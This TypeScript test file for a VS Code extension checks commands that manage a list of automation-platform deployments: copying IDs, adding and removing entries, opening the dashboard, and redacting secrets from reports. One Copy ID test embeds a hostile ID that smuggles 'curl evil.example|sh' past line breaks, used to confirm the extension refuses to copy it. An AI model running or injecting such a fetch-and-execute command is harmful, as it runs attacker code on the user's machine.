import { strict as assert } from 'node:assert';
import * as vscode from 'vscode';
import { idsMessage } from '../../../src/commands/deployments/addDeployment.js';
import { UserError } from '../../../src/host/actions.js';
import { commandIds } from '../../../src/host/ids.js';
import { answerOf } from '../../support/answers.js';
import {
  account,
  authorization,
  DEFAULT_SESSION_TOKEN,
  DEFAULT_TOKEN,
  failedAccount,
  healthy,
  install,
} from '../../support/platform/data.js';
import { faults } from '../../support/platform/faults.js';
import { until } from '../../support/window/editors.js';
import { createGraph, openAnotherTab, startWorld, type World } from '../../support/window/graph.js';
import { settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
import {
  type Answer,
  answering,
  enter,
  notificationsOf,
  recordWindow,
  replace,
  settle,
} from '../../support/window/windowRecorder.js';

const token = '0a1b2c3d-0000-4000-8000-00000000000f';
const section = 'automationPlatform.deployments';
const list = (entries: unknown) => writeSetting(section, entries, Workspace);
const setDashboard = (url: string) => writeSetting('automationPlatform.dashboardUrl', url);

/** What VS Code was asked to show, after these answers. */
async function recording(work: () => Promise<unknown>, ...answers: Answer[]) {
  const shown = recordWindow(() => answers.shift());
  await work();
  return shown;
}

async function copied(work: Promise<unknown>): Promise<string> {
  await work;
  return vscode.env.clipboard.readText();
}

describe('the command', () => {
  let platform: World['platform'];
  let graph: World['graph'];
  let run: World['run'];
  let signIn: World['signIn'];
  let asked: World['asked'];

  beforeEach(async () => {
    ({ platform, graph, run, signIn, asked } = await startWorld());
    platform.putDeployment('dep_1', healthy());
    platform.putDeployment('dep_2', failedAccount());
    platform.putInstall(token, install());
  });

  const get = (id: string) => graph.services.store.get(id);
  const row = (id: string) => graph.row(id);
  const revealed = () => graph.view.revealed.map(({ copyId }) => copyId);
  /** VS Code hands the button in one selected row all that are selected, of whatever kind. */
  const accountOf = (id: string) => ({ kind: 'account', deployment: get(id) });
  const open = (id = 'a/b') => notificationsOf(() => run('openInDashboard', row(id)), 'Open');
  const edit = (typed: string) => recording(() => run('editDeploymentId', 'dep_9'), typed);

  it('Copy ID copies no line break and nothing invisible, and says which ID it left out', async () => {
    const hostile = 'acc\ncurl evil.example|sh\n';
    platform.putDeployment('dep_3', authorization([account({ id: hostile, error: {} })], []));
    await signIn();
    await graph.read('dep_1', 'dep_3', 'dep\u202E4');
    const [finding] = get('dep_3')!.answer!.findings.accounts;
    const rows = [
      graph.row('dep_1'),
      { kind: 'account', deployment: { id: 'dep_3' }, finding, copyId: hostile },
      graph.row('dep\u202E4'),
    ];
    await vscode.env.clipboard.writeText('before');
    const reason =
      'because it contains line breaks or invisible characters. Copy such an ID from the dashboard.';
    await assert.rejects(run('copyId', rows[1], [rows[1]]), {
      message: `“acc␊curl evil.example|sh␊” was not copied, ${reason}`,
    });
    assert.equal(await vscode.env.clipboard.readText(), 'before');
    await assert.rejects(run('copyId', rows[0], rows), /were not copied, .* Copied 1 IDs: dep_1\./);
    assert.equal(await vscode.env.clipboard.readText(), 'dep_1');
  });

  it('that needs an organization or a list says so', async () => {
    const signedOut = createGraph();
    await list(['dep_1']);
    for (const command of [
      'refresh',
      'refreshDeployment',
      'goToDeployment',
      'muteProblem',
      'openInDashboard',
      'lookUpInstall',
      'revokeApiKey',
      'setSessionToken',
      'signOut',
      'checkConnection',
      'revealDeployment',
    ] as const) {
      await assert.rejects(
        signedOut.run(command, 'dep_1'),
        /^UserError: You are not signed in\./,
        command,
      );
    }
    await list([]);
    await settle();
    await assert.rejects(run('refresh'), /^UserError: The list of deployments is empty\./);
    graph.ignore({ deployments: { count: 8, files: ['.vscode/settings.json'] } });
    await assert.rejects(
      run('refresh'),
      /^UserError: 8 deployments in \.vscode\/settings\.json are ignored, because /,
    );
    assert.deepEqual(asked(), []);
  });

  describe('Add Deployment', () => {
    it('writes, reads and shows what was confirmed, opens the row of what is wrong, and lists nothing twice', async () => {
      await list([]);
      await answering(
        () => run('addDeployment', { id: ' dep_2 ', label: 'Billing' }),
        enter,
        enter,
      );
      assert.equal(get('dep_2')?.state, 'failed');
      platform.putDeployment('dep 1', healthy());
      await answering(() => run('addDeployment', { id: 'dep 1' }), enter, enter);
      await answering(() => run('addDeployment', { id: 'dep 1' }), enter);
      assert.deepEqual(settingIn(section), [{ id: 'dep_2', label: 'Billing' }, 'dep 1']);
      assert.deepEqual(
        [revealed(), graph.view.opened.map(({ copyId }) => copyId)],
        [['dep_2', 'dep 1', 'dep 1'], ['dep_2']],
      );
    });

    it('opens no row once another one is selected', async () => {
      await list(['dep_1']);
      graph.view.selection = [graph.row('dep_1')];
      await answering(() => run('addDeployment', { id: 'dep_2' }), enter, enter);
      assert.deepEqual([get('dep_2')?.state, graph.view.opened], ['failed', []]);
    });

    it('adds several in one write, without labels, and reads them at once', async () => {
      await list(['dep_2']);
      let writes = 0;
      const watch = vscode.workspace.onDidChangeConfiguration(() => writes++);
      const text = 'dep_1, dep_2 "dep 3" https://dash.example/deployments/dep_4?tab=1';
      const { statusMessages } = await recording(
        () => run('addDeployment', { label: 'left out' }),
        text,
      );
      watch.dispose();
      assert.deepEqual([settingIn(section), writes], [['dep_2', 'dep_1', 'dep 3', 'dep_4'], 1]);
      assert.deepEqual(new Set(asked()), new Set(['dep_1', 'dep 3', 'dep_4']));
      assert.deepEqual(revealed(), ['dep_1']);
      assert.deepEqual(statusMessages, ['Added 3 deployments to .vscode/settings.json.']);
    });

    it('says what Enter would add and what may be wrong with it, and refuses what goes nowhere or is a token', async () => {
      await list(['dep_1']);
      const halves = 'tok-1234567890,0987654321';
      await signIn('Acme', halves);
      for (const [text, expected] of [
        [token, /^$/],
        ['https://dash.example/deployments/dep_9', /^Adds “dep_9”, the last part of the URL\.$/],
        [`https://dash.example/${token}`, /install token\.$/],
        ['dep_8 dep_9', /^Adds 2 deployments: dep_8, dep_9\. Put quotes/],
        ['dep/9', /rarely contain spaces or slashes: “dep\/9”/],
        ['dep_1', /^Already in the list\./],
        ['dep_1,dep_9', /1 of them is already in the list\.$/],
        [' , '],
        ['dep_1 ..'],
        [`dep_1 "x ${DEFAULT_TOKEN}"`],
        [halves],
      ] as const) {
        const message = idsMessage(graph.services, text);
        const note = typeof message === 'string' ? undefined : (message?.message ?? '');
        if (expected) assert.match(note ?? 'refused', expected);
        else assert.equal(note, undefined, text);
      }
    });
  });

  describe('Add Deployments from Clipboard', () => {
    it('says that no new ID of a text is like one in the list, instead of offering its other words', async () => {
      await list(['dep_1']);
      await vscode.env.clipboard.writeText('12345 dep_1');
      const said = await notificationsOf(() => run('addDeploymentsFromText'));
      assert.deepEqual(said, [
        ['information', 'No new IDs like those in the list.', 'Show All Words'],
      ]);
    });

    it('offers the IDs that begin like a listed one alone, and its other words behind Show All Words', async () => {
      await list(['dep_1']);
      await vscode.env.clipboard.writeText('run dep_2 and dep_1');
      const answers = ['Show All Words', undefined];
      const { picks, placeholders } = recordWindow(() => answers.shift());
      await run('addDeploymentsFromText');
      const offered = picks.map(({ label }) => label).join(' ');
      assert.equal(offered, 'dep_2 dep_2 run and');
      assert.deepEqual(placeholders, [
        '2 other words are not shown. Select the deployments to add.',
        'Select the deployments to add.',
      ]);
    });

    it('names source, target and organization, and checks nothing that is in the clipboard', async () => {
      await vscode.env.clipboard.writeText(`dep_1 ${token} Bearer x${' '.repeat(300_000)}dep_2`);
      const { picks, placeholders, titles } = recordWindow();
      await run('addDeploymentsFromText');
      const offered = [
        ...titles,
        ...placeholders,
        ...picks.map(({ label, picked }) => [label, picked]),
      ];
      const partly = 'Only the first 300,000 characters were searched.';
      assert.deepEqual(offered, [
        'Add Deployments from Clipboard · .vscode/settings.json · environment (from environment variables)',
        `${partly} 1 skipped: it may be a token, or is longer than 128 characters. Select the deployments to add.`,
        ['dep_1', false],
        [token, false],
      ]);
      await vscode.env.clipboard.writeText(`${' '.repeat(300_000)}dep_2`);
      const said = await notificationsOf(() => run('addDeploymentsFromText'));
      assert.deepEqual(said, [
        ['information', `No new deployment IDs found. ${partly}`, 'Add Deployment...'],
      ]);
    });
  });

  it('Open in Dashboard asks once for an organization and a site, and refuses what leads elsewhere', async () => {
    await graph.read('a/b', DEFAULT_TOKEN);
    const opened: unknown[] = [];
    const executeCommand = async (id: string, url: unknown) =>
      void (id === 'vscode.open' && opened.push(url));
    replace(vscode.commands, { executeCommand });
    await setDashboard('https://dash.example/{deploymentId}');
    const question = 'Open dash.example for environment (from environment variables)?';
    assert.deepEqual(
      [...(await open()), ...(await open())],
      [['warning', question, 'https://dash.example/a%2Fb', 'Open']],
    );
    await assert.rejects(open(DEFAULT_TOKEN), /^UserError: This ID contains a secret/);
    await setDashboard('https://{deploymentId}.example');
    await assert.rejects(open(), /in its host\./);
    // The window of a server may lead loopback hosts elsewhere; that of a desktop leaves them alone.
    await setDashboard('http://localhost/{deploymentId}');
    if (vscode.env.remoteName !== undefined)
      await assert.rejects(open(), /A remote window may change this ID/);
    assert.deepEqual(opened, Array(2).fill('https://dash.example/a%2Fb'));
    assert.doesNotMatch(JSON.stringify([...graph.context.globalState.values]), /dash\.example/);
  });

  it('Remove Deployment removes one row at once, several after a question, says from where, and offers Undo', async () => {
    await list(['dep_1', 'dep_2']);
    await graph.services.store.refresh();
    const selection = [row('dep_1'), accountOf('dep_2')];
    const said = await notificationsOf(
      () => run('removeDeployment', row('dep_1'), selection),
      'Undo',
    );
    await until('what was read', () => get('dep_1')?.state === 'satisfied');
    assert.deepEqual(settingIn(section), ['dep_1', 'dep_2']);
    const removeBoth = () => run('removeDeployment', row('dep_1'), [row('dep_1'), row('dep_2')]);
    said.push(...(await notificationsOf(removeBoth, 'Remove')));
    const place = 'from the list in .vscode/settings.json. Nothing changed on the platform.';
    const detail = 'dep_1, dep_2\nFrom: .vscode/settings.json.\nNothing changes on the platform.';
    assert.deepEqual(said, [
      ['information', `Removed “dep_1” ${place}`, 'Undo'],
      ['warning', 'Remove 2 deployments from the list?', detail, 'Remove'],
      ['information', `Removed 2 deployments ${place}`, 'Undo'],
    ]);
    assert.deepEqual([settingIn(section), asked()], [[], ['dep_1', 'dep_2', 'dep_1']]);
    await list(['dep_1', { id: 'dep_2', label: 'Billing' }, 'dep_3']);
    await answering(() => run('removeDeployment'), [0, 1], enter);
    assert.deepEqual(settingIn(section), ['dep_3']);
  });

  it('Remove Deployment from the palette names the places before it removes what Enter takes', async () => {
    await list(['dep_1', 'dep_2']);
    await settle();
    const places = 'From: .vscode/settings.json.\nNothing changes on the platform.';
    for (const [selected, question, ids] of [
      [[], 'Remove “dep_1” from the list?', 'dep_1'],
      [['dep_1', 'dep_2'], 'Remove 2 deployments from the list?', 'dep_1, dep_2'],
    ] as const) {
      graph.view.selection = selected.map(row);
      const answers: Answer[] = [enter, undefined];
      const { messages } = recordWindow(() => answers.shift());
      await run('removeDeployment');
      assert.deepEqual(messages, [['warning', question, `${ids}\n${places}`, 'Remove']]);
    }
    assert.deepEqual(settingIn(section), ['dep_1', 'dep_2']);
  });

  it('Remove Deployment from the palette selects the row after a selected one, and leaves the focus', async () => {
    const chosen = () => graph.view.revealed.map(({ id }) => id);
    await list(['dep_1', 'dep_2', 'dep_3']);
    await settle();
    const [first, second, third] = ['dep_1', 'dep_2', 'dep_3'].map(row);
    graph.app.deploymentRows.getChildren();
    graph.view.selection = [second!];
    await answering(() => run('removeDeployment'), [0], enter);
    assert.deepEqual(chosen(), [], 'another one was selected');
    assert.deepEqual(settingIn(section), ['dep_2', 'dep_3'], first!.id);
    await answering(() => run('removeDeployment'), [0], enter);
    assert.deepEqual([chosen(), graph.view.focused], [[third!.id], []]);
  });

  it('Remove Deployment by its key asks with the name of the selected deployment', async () => {
    await list([{ id: 'dep_2', label: 'Billing' }]);
    await settle();
    graph.view.selection = [row('dep_2')];
    const said = await notificationsOf(() => run('removeDeployment', { selection: true }));
    const detail = 'dep_2\nFrom: .vscode/settings.json.\nNothing changes on the platform.';
    assert.deepEqual(said, [['warning', 'Remove “Billing” from the list?', detail, 'Remove']]);
  });

  it('Edit ID changes the ID, keeps its label, reads it, and offers Undo', async () => {
    await list([{ id: 'dep_9', label: 'Billing' }, 'dep_2']);
    for (const wrong of ['dep_2', '..', ' ', '', DEFAULT_TOKEN]) {
      assert.deepEqual((await edit(wrong)).messages, [], wrong);
    }
    assert.deepEqual(asked(), []);
    const { messages } = await edit(' dep_1 ');
    assert.deepEqual(settingIn(section), [{ id: 'dep_1', label: 'Billing' }, 'dep_2']);
    assert.equal(get('dep_1')?.state, 'satisfied');
    const changed = 'Changed the ID “dep_9” to “dep_1” in .vscode/settings.json.';
    assert.deepEqual(messages, [['information', changed, 'Undo']]);
  });

  it('Refresh reads again what an automatic round that runs has read already', async () => {
    platform.fault({ id: 'dep_1' }, faults.hold());
    const round = graph.read('dep_1', 'dep_2');
    await until('the other one', () => get('dep_2')?.state === 'failed');
    const refresh = run('refresh');
    await platform.waitForRequests(3);
    platform.release();
    await Promise.all([round, refresh]);
    assert.deepEqual(asked(), ['dep_1', 'dep_2', 'dep_2']);
  });

  it('Refresh Deployment says what is still wrong where no row shows it', async () => {
    await graph.read('dep_1', 'dep_2');
    const said = await notificationsOf(async () => {
      for (const argument of ['dep_1', 'dep_2', row('dep_2')])
        await run('refreshDeployment', argument);
    });
    assert.match(said.shift()!.join(), /^information,dep_2: Ops Slack .* failed: .*,Copy Request$/);
    assert.deepEqual(said, []);
  });

  describe('Go to Deployment and links to one', () => {
    it('offer the worst deployment first, also while a refresh of all keeps the order', async () => {
      platform.fault({ id: 'dep_1' }, faults.hold());
      const refreshing = graph.read('dep_1', 'dep_2');
      await until('the other one', () => get('dep_2')?.state === 'failed');
      await answering(() => run('goToDeployment'), enter);
      assert.deepEqual(revealed(), ['dep_2']);
      platform.release();
      await refreshing;
    });

    it('ask with a title that says as of when, while all fail alike', async () => {
      const { store } = graph.services;
      await graph.read('dep_1', 'dep_2');
      platform.fault('all', faults.status(401));
      await run('refresh');
      const shown = await recording(() => run('goToDeployment'));
      assert.equal(store.cause?.kind, 'failure');
      assert.match(shown.titles.join(), /^Go to Deployment · as of \d/);
    });

    it('reveal any ID, and say that one is not listed', async () => {
      graph.services.store.setListed([{ id: 'half \ud800' }]);
      await run('revealDeployment', 'half \ud800');
      await assert.rejects(
        run('revealDeployment', 'dep_9'),
        /^UserError: “dep_9” is not in the list\./,
      );
      await run('revealDeployment', { id: 'half \ud800' });
      assert.deepEqual(revealed(), ['half \ud800']);
    });
  });

  it('Copy ID or Copy Report takes a row, the selection, or what is picked from a list', async () => {
    await graph.read('dep_1', 'dep_2');
    graph.view.selection = [row('dep_1'), row('dep_2')];
    const { statusMessages } = await recording(() => run('copyId', { selection: true }));
    assert.deepEqual(statusMessages, ['Copied 2 IDs: dep_1, dep_2.']);
    assert.equal(await vscode.env.clipboard.readText(), 'dep_1\ndep_2');
    assert.equal(await copied(answering(() => run('copyId'), [0, 1])), 'dep_2\ndep_1');
    for (const command of ['copyId', 'findInFiles'] as const) {
      await assert.rejects(
        run(command, { kind: 'cause', id: 'cause' }),
        /^UserError: The platform sent no ID/,
      );
    }
    const one = await copied(run('copyReport', row('dep_1')));
    assert.ok(one.includes('dep_1') && !one.includes('dep_2'), one);
    const two = await copied(run('copyReport', row('dep_1'), graph.view.selection));
    assert.ok(two.includes('dep_1') && two.includes('dep_2'), two);
    await vscode.env.clipboard.writeText('');
    assert.equal(await copied(answering(() => run('copyReport'), enter)), two);
    for (const secret of [DEFAULT_TOKEN, platform.baseUrl, 'environment'])
      assert.ok(!two.includes(secret));
  });

  it('Copy Report in the view’s title asks which deployments, whatever row has the focus', async () => {
    await graph.read('dep_1', 'dep_2');
    const focused = row('dep_1');
    const report = await copied(
      answering(() => run('copyReportFromTitle', focused, [focused]), enter),
    );
    assert.ok(report.includes('dep_1') && report.includes('dep_2'), report);
  });

  it('Copy Report redacts secrets in labels, in owners, and in what the platform says', async () => {
    const keyId = 'key_0123456789abcdef';
    await answering(() => run('revokeApiKey'), keyId, enter, keyId);
    const error = { code: 'revoked', message: `The key ${keyId} was revoked.` };
    platform.putDeployment('dep_1', authorization([account({ id: 'acc_1', error })], []));
    await writeSetting('automationPlatform.owners', { acc_1: `Maria, ${DEFAULT_TOKEN}` });
    await graph.read({ id: 'dep_1', label: `Billing, token ${DEFAULT_TOKEN}` });
    const report = await copied(run('copyReport', row('dep_1')));
    assert.match(report, /Billing, token/);
    assert.match(report, /Owner: Maria/);
    assert.match(report, /was revoked/);
    for (const secret of [DEFAULT_TOKEN, keyId]) assert.ok(!report.includes(secret), report);
  });

  it('Forget Install moves the focus to the next row, after the last one to the one before', async () => {
    const { installs } = graph.services;
    const [, second, third] = ['a', 'b', 'c'].map((one) =>
      installs.add(one, 'org', answerOf(install())),
    );
    await run('forgetInstall', second);
    assert.deepEqual(graph.installs.focused, [third]);
    await run('forgetInstall', third);
    assert.deepEqual(graph.installs.focused[1], installs.installs[0]);
  });

  describe('Look Up Install', () => {
    it('moves the focus to the row when the answer comes', async () => {
      await answering(() => run('lookUpInstall', token), enter);
      assert.deepEqual(graph.installs.focused, graph.services.installs.installs);
    });

    it('selects the row, and leaves the focus to whoever has gone on typing', async () => {
      platform.fault('all', faults.hold());
      const found = answering(() => run('lookUpInstall', token), enter);
      await platform.waitForRequests(1, { state: 'held' });
      await vscode.window.showTextDocument(
        await vscode.workspace.openTextDocument({ content: '' }),
      );
      const typed = new Promise((resolve) => {
        const listener = vscode.window.onDidChangeTextEditorSelection((change) => {
          listener.dispose();
          resolve(change);
        });
      });
      await vscode.commands.executeCommand('type', { text: 'x' });
      await typed;
      platform.release();
      await found;
      assert.deepEqual(
        [graph.installs.revealed, graph.installs.focused],
        [graph.services.installs.installs, []],
      );
    });

    it('logs what the platform says against it, without the tokens, and has a button for the log', async () => {
      await signIn();
      platform.fault(
        'all',
        faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`),
      );
      const refused: unknown = await answering(() => run('lookUpInstall', token), enter).catch(
        (error: unknown) => error,
      );
      assert.ok(
        refused instanceof UserError &&
          refused.actions.some(({ command }) => command === commandIds.showLog),
      );
      const said = 'Response: “[redacted] is locked. Ask the owner of [redacted].”';
      const logged = `Lookup of an install in organization "Acme" failed (409 clientError). ${said}`;
      assert.ok(graph.lines.includes(logged), graph.lines.join('\n'));
    });

    it('keeps no install that was read with a token that is gone by then', async () => {
      const acme = await signIn();
      platform.fault('all', faults.hold());
      const stopped = assert.rejects(
        answering(() => run('lookUpInstall', token), enter),
        /“Acme” has changed/,
      );
      await platform.waitForRequests(1, { state: 'held' });
      await graph.services.organizations.signOut(acme.id);
      platform.release();
      await stopped;
      assert.deepEqual(graph.services.installs.installs, []);
    });
  });

  describe('for organizations', () => {
    it('refuses to change that of the environment', async () => {
      await assert.rejects(run('setSessionToken'), /environment/);
      await assert.rejects(run('signOut'), /AUTOMATION_PLATFORM_TOKEN/);
      await signIn();
      const { picks, messages } = await recording(() => run('signOut'));
      assert.deepEqual(
        [picks.map(({ label }) => label), messages],
        [['Acme'], []],
        'the other one could be meant',
      );
    });

    it('Set User Session Token removes it after an empty answer only', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await organizations.setSessionToken(id, DEFAULT_SESSION_TOKEN);
      await answering(() => run('setSessionToken'));
      assert.equal(organizations.get(id)?.hasSessionToken, true);
      await answering(() => run('setSessionToken'), enter);
      assert.equal(organizations.get(id)?.hasSessionToken, false);
    });

    it('Set User Session Token saves a placeholder only after a yes', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await answering(() => run('setSessionToken'), '$SESSION_TOKEN', undefined);
      assert.equal(organizations.get(id)?.hasSessionToken, false);
      await answering(() => run('setSessionToken'), '$SESSION_TOKEN', enter);
      assert.equal(organizations.target(id, 'install')?.token, '$SESSION_TOKEN');
    });

    it('Look Up Install sends no user session token that another tab may have removed', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await organizations.setSessionToken(id, DEFAULT_SESSION_TOKEN);
      await (await openAnotherTab(graph)).setSessionToken(id, undefined);
      const refused =
        'Nothing was sent, because the tokens for “Acme” were changed in another window. Reload this window to use them.';
      const installToken = '00000000-0000-4000-8000-000000000000';
      await assert.rejects(
        answering(() => run('lookUpInstall', installToken), enter),
        new RegExp(refused),
      );
      assert.deepEqual(platform.requests, []);
    });

    it('Set User Session Token saves the token without the quotes around it', async () => {
      const { organizations } = graph.services;
      const { id } = await signIn();
      await answering(() => run('setSessionToken'), `“${DEFAULT_SESSION_TOKEN}”`);
      assert.equal(organizations.target(id, 'install')?.token, DEFAULT_SESSION_TOKEN);
    });
  });
});
